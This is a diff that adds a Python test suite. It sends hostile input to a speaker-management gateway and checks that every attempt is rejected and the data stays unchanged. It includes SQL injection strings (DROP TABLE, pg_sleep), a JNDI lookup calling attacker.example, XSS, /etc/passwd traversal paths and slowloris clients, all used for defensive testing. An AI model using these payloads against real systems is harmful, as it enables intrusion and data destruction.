@@ -1,0 +1,486 @@
+"""Issue 4 end to end: hostile input through the real gateway. Every attempt gets a 4xx (or, for the
+slow and the oversized, a closed connection); afterwards the node is healthy and a control speaker's
+data is exactly what it was."""
+import http.client
+import socket
+import time
+import unittest
+import urllib.parse
+
+from sbm_node import Node, psql
+
+INJECTIONS = [
+    "' OR '1'='1",
+    "'; DROP TABLE speakers.speakers; --",
+    "\") OR 1=1 --",
+    "1; SELECT pg_sleep(5)",
+    "' UNION SELECT id, role FROM users.users --",
+    "%' OR 1=1 --",
+    "admin'--",
+    "*)(uid=*))(|(uid=*",
+    "{\"$gt\": \"\"}",
+    "$where: 1==1",
+    "${jndi:ldap://attacker.example/a}",
+    "<script>alert(1)</script>",
+    "\\x27 OR 1=1",
+    "..\\..\\windows\\win.ini",
+    "ö' OR 'ä'='ä",
+]
+
+BODY_LIMIT = 65536
+HEADER_LIMIT = 4096
+READ_TIMEOUT_S = 3
+
+
+def status_of(response):
+    """The status of a raw HTTP response, or None when the server closed without answering."""
+    if not response.startswith(b"HTTP/1."):
+        return None
+    return int(response.split(b" ", 2)[1])
+
+
+class Hostile(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.node = Node(extra_flags=[f"--gateway.body-limit={BODY_LIMIT}",
+                                     f"--gateway.max-header-bytes={HEADER_LIMIT}",
+                                     "--gateway.max-header-count=50",
+                                     f"--gateway.read-timeout={READ_TIMEOUT_S}s",
+                                     # the rate limit has its own test; here it would only add 429s
+                                     "--gateway.rate-limit=0"])
+        cls.admin = cls.node.token("admin")
+        cls.lead = cls.node.token("qa_lead")
+        r = cls.node.request("POST", "/v1/speakers",
+                             {"speaker_id": "control", "client_id": "control-client", "display_name": "Control"},
+                             token=cls.admin)
+        assert r.status == 201, r
+        for rate in (1.0, 2.5, 4.0):
+            r = cls.node.request("POST", "/v1/speakers/control/quality-samples",
+                                 {"job_id": f"job-{rate}", "errors_per_100_words": rate}, token=cls.admin)
+            assert r.status == 201, r
+        r = cls.node.request("PUT", "/v1/speakers/control/bucket-pin",
+                             {"bucket": "medium_touch", "reason": "control pin"}, token=cls.lead)
+        assert r.status == 200, r
+        cls.control = cls.snapshot()
+        cls.speaker_count = cls.count("speakers.speakers")
+
+    @classmethod
+    def tearDownClass(cls):
+        try:
+            assert cls.node.get("/healthz").status == 200
+            assert cls.snapshot() == cls.control, "the control speaker changed"
+        finally:
+            cls.node.stop()
+
+    @classmethod
+    def snapshot(cls):
+        view = cls.node.request("GET", "/v1/speakers/control", token=cls.admin)
+        history = cls.node.request("GET", "/v1/speakers/control/bucket-history", token=cls.admin)
+        assert view.status == 200 and history.status == 200, (view, history)
+        return view.json(), history.json()
+
+    @classmethod
+    def count(cls, table):
+        return int(psql(cls.node.database_url, f"SELECT count(*) FROM {table}"))
+
+    def setUp(self):
+        self.created = 0
+
+    def tearDown(self):
+        # after every test: alive, and the control speaker is exactly as it was
+        self.assertEqual(self.node.get("/healthz").status, 200)
+        self.assertEqual(self.snapshot(), self.control)
+
+    def raw(self, data, timeout=10, read=True):
+        chunks = []
+        with socket.create_connection(("127.0.0.1", self.node.port), timeout=timeout) as s:
+            try:
+                s.sendall(data)
+            except (BrokenPipeError, ConnectionResetError):
+                pass
+            if read:
+                try:
+                    while True:
+                        b = s.recv(65536)
+                        if not b:
+                            break
+                        chunks.append(b)
+                except (ConnectionResetError, socket.timeout):
+                    pass
+        return b"".join(chunks)
+
+    def raw_request(self, method, path, body=b"", token=None, extra=b""):
+        head = method.encode() + b" " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
+        if token:
+            head += b"Authorization: Bearer " + token.encode() + b"\r\n"
+        if body:
+            head += b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode() + b"\r\n"
+        return self.raw(head + extra + b"\r\n" + body)
+
+    def assert_4xx(self, r, what):
+        self.assertTrue(400 <= r.status < 500, f"{what}: {r}")
+        if r.body:
+            self.assertEqual(r.header("content-type"), "application/problem+json", what)
+            self.assertEqual(r.json()["status"], r.status)
+
+    def assert_4xx_raw(self, response, what, allow_close=False):
+        status = status_of(response)
+        if status is None and allow_close:
+            return
+        self.assertIsNotNone(status, f"{what}: no HTTP answer: {response[:200]!r}")
+        self.assertTrue(400 <= status < 500, f"{what}: {response[:300]!r}")
+
+    # --- malformed and mistyped JSON ----------------------------------------------------------
+
+    def json_targets(self):
+        return [("POST", "/v1/speakers"), ("PUT", "/v1/speakers/control/bucket-pin"),
+                ("POST", "/v1/speakers/control/quality-samples"), ("POST", "/v1/users"),
+                ("PATCH", "/v1/users/user-admin")]
+
+    def test_malformed_json(self):
+        bodies = [b"{", b"}", b"{\"speaker_id\": }", b"{\"speaker_id\": \"a\",}", b"[1, 2]", b"\"text\"",
+                  b"null", b"42", b"{} trailing", b"{\"a\": tru}", b"{'single': 'quotes'}",
+                  b"{\"a\": NaN}", b"{\"a\": Infinity}", b"{\"a\": -Infinity}", b"{\"a\": 0x10}",
+                  b"{\"a\": 01}", b"{\"a\": \"\\x41\"}", b"{\"a\": \"\\u12\"}", b"\xef\xbb\xbf{}", b" ",
+                  b"{\"a\":\"unterminated}", b"{\"a\" \"b\"}", b"{,}", b"/* comment */ {}"]
+        for method, path in self.json_targets():
+            for body in bodies:
+                with self.subTest(method=method, path=path, body=body):
+                    r = self.node.request(method, path, raw_body=body, token=self.admin,
+                                          headers={"Content-Type": "application/json"})
+                    self.assert_4xx(r, body)
+
+    def test_wrong_types(self):
+        cases = [
+            ("POST", "/v1/speakers", {"speaker_id": 5, "client_id": "c"}),
+            ("POST", "/v1/speakers", {"speaker_id": ["a"], "client_id": "c"}),
+            ("POST", "/v1/speakers", {"speaker_id": {"$ne": None}, "client_id": "c"}),
+            ("POST", "/v1/speakers", {"speaker_id": True, "client_id": "c"}),
+            ("POST", "/v1/speakers", {"speaker_id": None, "client_id": "c"}),
+            ("POST", "/v1/speakers", {"speaker_id": "ok-id", "client_id": "c", "display_name": 12}),
+            ("PUT", "/v1/speakers/control/bucket-pin", {"bucket": 1, "reason": "r"}),
+            ("PUT", "/v1/speakers/control/bucket-pin", {"bucket": "no_touch", "reason": {"a": 1}}),
+            ("PUT", "/v1/speakers/control/bucket-pin", {"bucket": "NO_TOUCH", "reason": "r"}),
+            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": "3"}),
+            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": True}),
+            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": [3]}),
+            ("POST", "/v1/speakers/control/quality-samples", {"job_id": 3, "errors_per_100_words": 3}),
+            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": -1}),
+            ("POST", "/v1/users", {"id": "u", "role": ["admin"]}),
+            ("POST", "/v1/users", {"id": "u", "role": "qa", "disabled": "true"}),
+            ("PATCH", "/v1/users/user-admin", {"disabled": 0}),
+        ]
+        for method, path, body in cases:
+            with self.subTest(method=method, body=body):
+                self.assert_4xx(self.node.request(method, path, body, token=self.admin), body)
+
+    def test_huge_numbers(self):
+        for number in (b"1e400", b"-1e400", b"1180591620717411303424", b"-1180591620717411303424",
+                       b"1e308", b"123456789012345678901234567890.5", b"1" * 5000, b"0." + b"0" * 5000 + b"1e99999"):
+            with self.subTest(number=number[:40]):
+                body = b'{"job_id": "huge", "errors_per_100_words": ' + number + b"}"
+                r = self.node.request("POST", "/v1/speakers/control/quality-samples", raw_body=body,
+                                      token=self.admin, headers={"Content-Type": "application/json"})
+                self.assert_4xx(r, number[:40])
+        for query in ("limit=1e400", "limit=1180591620717411303424", "limit=-1", "limit=99999999999999999999",
+                      "limit=0x10", "limit=%201"):
+            with self.subTest(query=query):
+                self.assert_4xx(self.node.request("GET", "/v1/speakers?" + query, token=self.admin), query)
+                self.assert_4xx(self.node.request("GET", "/v1/audit?" + query, token=self.admin), query)
+        for cursor in ("1180591620717411303424", "9223372036854775808", "1e3"):
+            self.assert_4xx(self.node.request("GET", "/v1/audit?cursor=" + cursor, token=self.admin), cursor)
+
+    def test_deeply_nested_json(self):
+        for depth in (33, 1000, 100000):
+            for opener, closer in ((b"[", b"]"), (b'{"a":', b"}")):
+                with self.subTest(depth=depth, kind=opener):
+                    nested = opener * depth + b"1" + closer * depth
+                    body = b'{"speaker_id": "deep", "client_id": "c", "display_name": ' + nested + b"}"
+                    if len(body) > BODY_LIMIT:
+                        body = body[:BODY_LIMIT - 1]
+                    r = self.node.request("POST", "/v1/speakers", raw_body=body, token=self.admin,
+                                          headers={"Content-Type": "application/json"})
+                    self.assert_4xx(r, depth)
+        # unclosed nesting, as deep as the body limit allows
+        r = self.node.request("POST", "/v1/speakers", raw_body=b"[" * (BODY_LIMIT - 10), token=self.admin,
+                              headers={"Content-Type": "application/json"})
+        self.assert_4xx(r, "unclosed")
+
+    # --- bytes that are not what they claim -----------------------------------------------------
+
+    def test_invalid_utf8(self):
+        for bad in (b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"a\x80b",
+                    b"\xf8\x88\x80\x80\x80"):
+            with self.subTest(bytes=bad):
+                body = b'{"speaker_id": "utf-' + bad + b'", "client_id": "c"}'
+                r = self.node.request("POST", "/v1/speakers", raw_body=body, token=self.admin,
+                                      headers={"Content-Type": "application/json"})
+                self.assert_4xx(r, bad)
+                body = b'{"bucket": "no_touch", "reason": "' + bad + b'"}'
+                r = self.node.request("PUT", "/v1/speakers/control/bucket-pin", raw_body=body, token=self.lead,
+                                      headers={"Content-Type": "application/json"})
+                self.assert_4xx(r, bad)
+                encoded = urllib.parse.quote_from_bytes(bad)
+                self.assert_4xx(self.node.request("GET", "/v1/speakers/" + encoded, token=self.admin), bad)
+                self.assert_4xx(self.node.request("GET", "/v1/speakers?client_id=" + encoded, token=self.admin), bad)
+                self.assert_4xx(self.node.request("GET", "/v1/audit?actor=" + encoded, token=self.admin), bad)
+                # raw, unencoded bytes in the request line
+                self.assert_4xx_raw(self.raw_request("GET", b"/v1/speakers/" + bad, token=self.admin), bad,
+                                    allow_close=True)
+
+    def test_nul_bytes(self):
+        for field in ("speaker_id", "client_id", "display_name"):
+            with self.subTest(field=field):
+                body = {"speaker_id": "nul-test", "client_id": "c", "display_name": "n"}
+                body[field] = "before\u0000after"
+                self.assert_4xx(self.node.request("POST", "/v1/speakers", body, token=self.admin), field)
+        self.assert_4xx(self.node.request("PUT", "/v1/speakers/control/bucket-pin",
+                                          {"bucket": "no_touch", "reason": "a\u0000b"}, token=self.lead), "reason")
+        self.assert_4xx(self.node.request("POST", "/v1/users", {"id": "nul\u0000user", "role": "qa"},
+                                          token=self.admin), "user id")
+        self.assert_4xx(self.node.request("POST", "/v1/users", {"id": "nul-user", "role": "qa",
+                                                                "display_name": "a\u0000"}, token=self.admin), "name")
+        for path in ("/v1/speakers/control%00", "/v1/speakers?client_id=a%00b", "/v1/audit?actor=a%00b",
+                     "/v1/speakers/control/bucket-pin?reason=a%00b", "/v1/users/a%00b"):
+            with self.subTest(path=path):
+                method = "DELETE" if "bucket-pin" in path else "GET"
+                self.assert_4xx(self.node.request(method, path, token=self.admin), path)
+        # a raw NUL inside a JSON string is not JSON
+        r = self.node.request("POST", "/v1/speakers", raw_body=b'{"speaker_id": "a\x00b", "client_id": "c"}',
+                              token=self.admin, headers={"Content-Type": "application/json"})
+        self.assert_4xx(r, "raw NUL")
+        self.assert_4xx_raw(self.raw_request("GET", b"/v1/speakers/a\x00b", token=self.admin), "raw NUL path",
+                            allow_close=True)
+
+    def test_path_traversal_in_ids(self):
+        for path in ("/v1/speakers/..%2F..%2Fetc%2Fpasswd", "/v1/speakers/%2e%2e%2f%2e%2e%2fusers",
+                     "/v1/speakers/..%2f", "/v1/speakers/../../etc/passwd", "/v1/speakers/..",
+                     "/v1/speakers/%2e%2e", "/v1/speakers/control/..%2F..%2Fusers",
+                     "/v1/users/..%2Fuser-admin", "/v1/speakers/%252e%252e%252f", "/v1/speakers/%",
+                     "/v1/speakers/%zz", "/v1/speakers/control/../../users/user-admin"):
+            with self.subTest(path=path):
+                self.assert_4xx(self.node.request("GET", path, token=self.admin), path)
+        for sid in ("../../etc/passwd", "..%2F..%2Fetc", "/absolute", "a/b"):
+            with self.subTest(speaker_id=sid):
+                r = self.node.request("POST", "/v1/speakers", {"speaker_id": sid, "client_id": "c"}, token=self.admin)
+                if sid == "..%2F..%2Fetc":
+                    # no '/', so a legal id: stored as the literal text, never decoded again
+                    self.assertEqual(r.status, 201, r)
+                    self.created += 1
+                    got = self.node.request("GET", "/v1/speakers/" + urllib.parse.quote(sid, safe=""), token=self.admin)
+                    self.assertEqual(got.json()["speaker_id"], sid)
+                else:
+                    self.assert_4xx(r, sid)
+        self.assert_4xx(self.node.request("POST", "/v1/users", {"id": "../admin", "role": "admin"}, token=self.admin),
+                        "user id")
+
+    # --- injection strings in every text field and filter ---------------------------------------
+
+    def test_injection_strings_are_only_ever_data(self):
+        speakers_before = self.count("speakers.speakers")
+        users_before = self.count("users.users")
+        for i, text in enumerate(INJECTIONS):
+            with self.subTest(text=text):
+                started = time.time()
+                as_id = text.replace("/", "|")  # ids refuse '/'; every other byte of it stays
+                sid = f"inj-{i}-" + as_id
+                client = f"client-{i}-" + as_id
+                r = self.node.request("POST", "/v1/speakers",
+                                      {"speaker_id": sid, "client_id": client, "display_name": text}, token=self.admin)
+                self.assertEqual(r.status, 201, r)
+                body = r.json()
+                self.assertEqual((body["speaker_id"], body["client_id"], body["display_name"]), (sid, client, text))
+                quoted = urllib.parse.quote(sid, safe="")
+                got = self.node.request("GET", "/v1/speakers/" + quoted, token=self.admin)
+                self.assertEqual(got.status, 200, got)
+                self.assertEqual(got.json()["display_name"], text)
+                r = self.node.request("PUT", f"/v1/speakers/{quoted}/bucket-pin",
+                                      {"bucket": "low_touch", "reason": text}, token=self.lead)
+                self.assertEqual(r.status, 200, r)
+                self.assertEqual(r.json()["pin"]["reason"], text)
+                r = self.node.request("DELETE", f"/v1/speakers/{quoted}/bucket-pin?reason=" +
+                                      urllib.parse.quote(text, safe=""), token=self.lead)
+                self.assertEqual(r.status, 200, r)
+                r = self.node.request("POST", f"/v1/speakers/{quoted}/quality-samples",
+                                      {"job_id": "job-" + as_id, "errors_per_100_words": 1.0}, token=self.admin)
+                self.assertEqual(r.status, 201, r)
+                reasons = [e["reason"] for e in self.node.request(
+                    "GET", f"/v1/speakers/{quoted}/bucket-history", token=self.admin).json()["entries"]]
+                self.assertIn(text, reasons)
+                # filters: an exact value that matches only what was stored under it
+                listed = self.node.request("GET", "/v1/speakers?client_id=" + urllib.parse.quote(client, safe=""),
+                                           token=self.admin)
+                self.assertEqual(listed.status, 200, listed)
+                self.assertEqual([s["speaker_id"] for s in listed.json()["items"]], [sid])
+                listed = self.node.request("GET", "/v1/speakers?client_id=" + urllib.parse.quote(as_id, safe=""),
+                                           token=self.admin)
+                self.assertEqual(listed.status, 200, listed)
+                self.assertEqual(listed.json()["items"], [])
+                self.assert_4xx(self.node.request("GET", "/v1/speakers?bucket=" + urllib.parse.quote(text, safe=""),
+                                                  token=self.admin), "bucket filter")
+                r = self.node.request("GET", "/v1/speakers?cursor=" + urllib.parse.quote(text, safe=""), token=self.admin)
+                self.assertIn(r.status, (200, 400), r)
+                r = self.node.request("GET", "/v1/verification-schedule?speaker_id=" +
+                                      urllib.parse.quote(as_id, safe=""), token=self.admin)
+                self.assertEqual(r.status, 200, r)
+                self.assertEqual(r.json()["items"], [])
+                self.assert_4xx(self.node.request("GET", "/v1/verification-schedule?priority=" +
+                                                  urllib.parse.quote(text, safe=""), token=self.admin), "priority")
+                for name in ("actor", "action"):
+                    r = self.node.request("GET", f"/v1/audit?{name}=" + urllib.parse.quote(text, safe=""),
+                                          token=self.admin)
+                    self.assertEqual(r.status, 200, r)
+                    self.assertEqual(r.json()["items"], [])
+                uid = f"user-{i}-" + as_id
+                r = self.node.request("POST", "/v1/users", {"id": uid, "role": "qa", "display_name": text},
+                                      token=self.admin)
+                self.assertEqual(r.status, 201, r)
+                got = self.node.request("GET", "/v1/users/" + urllib.parse.quote(uid, safe=""), token=self.admin)
+                self.assertEqual((got.json()["id"], got.json()["display_name"]), (uid, text))
+                r = self.node.request("PATCH", "/v1/users/" + urllib.parse.quote(uid, safe=""),
+                                      {"display_name": text + text}, token=self.admin)
+                self.assertEqual(r.status, 200, r)
+                self.assertEqual(r.json()["display_name"], text + text)
+                self.assertLess(time.time() - started, 5, "an injected pg_sleep ran?")
+        self.assertEqual(self.count("speakers.speakers"), speakers_before + len(INJECTIONS))
+        self.assertEqual(self.count("users.users"), users_before + len(INJECTIONS))
+        # the audit filter matches the stored actor exactly, quotes and all
+        r = self.node.request("GET", "/v1/audit?action=user.create&limit=500", token=self.admin)
+        targets = {e["target"] for e in r.json()["items"]}
+        for i, text in enumerate(INJECTIONS):
+            self.assertIn(f"user-{i}-" + text.replace("/", "|"), targets)
+
+    # --- sizes -------------------------------------------------------------------------------
+
+    def test_oversized_bodies(self):
+        for size in (BODY_LIMIT + 1, BODY_LIMIT * 3):
+            with self.subTest(size=size):
+                body = b'{"speaker_id": "big", "client_id": "c", "display_name": "' + b"x" * size + b'"}'
+                r = self.node.request("POST", "/v1/speakers", raw_body=body, token=self.admin,
+                                      headers={"Content-Type": "application/json"})
+                self.assertEqual(r.status, 413, r)
+        # far beyond: RESTinio drops the connection instead of buffering it
+        body = b"x" * (BODY_LIMIT * 6)
+        response = self.raw_request("POST", b"/v1/speakers", body=body, token=self.admin)
+        self.assert_4xx_raw(response, "huge body", allow_close=True)
+        # a declared length far beyond the limit, with no body following
+        response = self.raw(b"POST /v1/speakers HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n"
+                            b"Authorization: Bearer " + self.admin.encode() + b"\r\n\r\n{}", timeout=15)
+        self.assert_4xx_raw(response, "declared length", allow_close=True)
+
+    def test_oversized_headers_and_url(self):
+        big = b"y" * (HEADER_LIMIT * 2)
+        cases = {
+            "header value": self.raw_request("GET", b"/v1/speakers", token=self.admin, extra=b"X-Big: " + big + b"\r\n"),
+            "url": self.raw_request("GET", b"/v1/speakers?client_id=" + big, token=self.admin),
+            "header name": self.raw_request("GET", b"/v1/speakers", token=self.admin, extra=b"X-" + big + b": 1\r\n"),
+            "many headers": self.raw_request("GET", b"/v1/speakers", token=self.admin,
+                                             extra=b"".join(b"X-H%d: v\r\n" % i for i in range(200))),
+            "huge token": self.raw_request("GET", b"/v1/speakers", token="a" * (HEADER_LIMIT - 100)),
+        }
+        for what, response in cases.items():
+            with self.subTest(what=what):
+                self.assert_4xx_raw(response, what, allow_close=True)
+        # just under the limits is fine
+        ok = self.raw_request("GET", b"/v1/speakers?limit=1", token=self.admin, extra=b"X-Ok: " + b"z" * 1000 + b"\r\n")
+        self.assertEqual(status_of(ok), 200, ok[:300])
+
+    def test_garbage_instead_of_http(self):
+        for data in (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64, b"GET\r\n\r\n",
+                     b"GARBAGE / HTTP/1.1\r\n\r\n", b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
+                     b"\r\n" * 1000, b"GET /v1/speakers HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
+                     b"GET /v1/speakers HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
+                     b"GET /v1/speakers HTTP/1.1\r\nHost: x\r\nBad Header\r\n\r\n"):
+            with self.subTest(data=data[:30]):
+                self.assert_4xx_raw(self.raw(data, timeout=READ_TIMEOUT_S + 5), data[:30], allow_close=True)
+
+    # --- slow clients ----------------------------------------------------------------------------
+
+    def slow_client(self, prefix, trickle):
+        """Sends `prefix`, then one byte of `trickle` per second; returns (seconds until the server
+        closed the connection, whether it answered 4xx instead)."""
+        started = time.time()
+        with socket.create_connection(("127.0.0.1", self.node.port), timeout=3 * READ_TIMEOUT_S) as s:
+            s.sendall(prefix)
+            s.settimeout(1.0)
+            for byte in trickle:
+                try:
+                    s.sendall(bytes([byte]))
+                except (BrokenPipeError, ConnectionResetError):
+                    return time.time() - started, None
+                try:
+                    data = s.recv(4096)
+                except socket.timeout:
+                    data = None
+                except ConnectionResetError:
+                    data = b""
+                if data is not None:
+                    return time.time() - started, status_of(data)
+                if time.time() - started > 4 * READ_TIMEOUT_S:
+                    break
+        self.fail(f"the server kept a slow client for {time.time() - started:.1f} s")
+
+    def test_slowloris_headers_are_cut_off(self):
+        elapsed, status = self.slow_client(b"GET /v1/speakers HTTP/1.1\r\nHost: x\r\n", b"X-Slow: " + b"a" * 60)
+        self.assertLess(elapsed, READ_TIMEOUT_S + 3)
+        self.assertTrue(status is None or 400 <= status < 500, status)
+
+    def test_slow_body_is_cut_off(self):
+        head = (b"POST /v1/speakers HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                b"Authorization: Bearer " + self.admin.encode() + b"\r\nContent-Length: 100\r\n\r\n")
+        elapsed, status = self.slow_client(head, b'{"speaker_id": "slow", "client_id": "c"' + b" " * 60)
+        self.assertLess(elapsed, READ_TIMEOUT_S + 3)
+        self.assertTrue(status is None or 400 <= status < 500, status)
+        self.assertEqual(self.node.request("GET", "/v1/speakers/slow", token=self.admin).status, 404)
+
+    def test_idle_connection_is_cut_off(self):
+        started = time.time()
+        with socket.create_connection(("127.0.0.1", self.node.port), timeout=4 * READ_TIMEOUT_S) as s:
+            try:
+                data = s.recv(100)
+            except ConnectionResetError:
+                data = b""
+        self.assertEqual(data, b"")
+        self.assertLess(time.time() - started, READ_TIMEOUT_S + 3)
+
+    def test_many_slow_clients_do_not_starve_others(self):
+        sockets = []
+        try:
+            for _ in range(40):
+                s = socket.create_connection(("127.0.0.1", self.node.port), timeout=5)
+                s.sendall(b"GET /v1/speakers HTTP/1.1\r\n")
+                sockets.append(s)
+            started = time.time()
+            r = self.node.request("GET", "/v1/speakers/control", token=self.admin)
+            self.assertEqual(r.status, 200, r)
+            self.assertLess(time.time() - started, 2)
+        finally:
+            for s in sockets:
+                s.close()
+
+
+class ConnectionLimit(unittest.TestCase):
+    def test_connections_over_the_limit_wait_and_idle_ones_are_reclaimed(self):
+        node = Node(extra_flags=["--gateway.max-connections=4", f"--gateway.read-timeout={READ_TIMEOUT_S}s"])
+        try:
+            token = node.token("qa")
+            hogs = [socket.create_connection(("127.0.0.1", node.port), timeout=5) for _ in range(4)]
+            try:
+                time.sleep(0.3)
+                conn = http.client.HTTPConnection("127.0.0.1", node.port, timeout=1.5)
+                with self.assertRaises((socket.timeout, TimeoutError)):
+                    conn.request("GET", "/healthz")
+                    conn.getresponse()
+                conn.close()
+                # the idle connections are cut off by the read timeout, and service resumes
+                node.wait_until(lambda: node.request("GET", "/v1/speakers?limit=1", token=token).status == 200,
+                                READ_TIMEOUT_S + 5, "the node never served again")
+            finally:
+                for h in hogs:
+                    h.close()
+        finally:
+            node.stop()
+
+
+if __name__ == "__main__":
+    unittest.main()
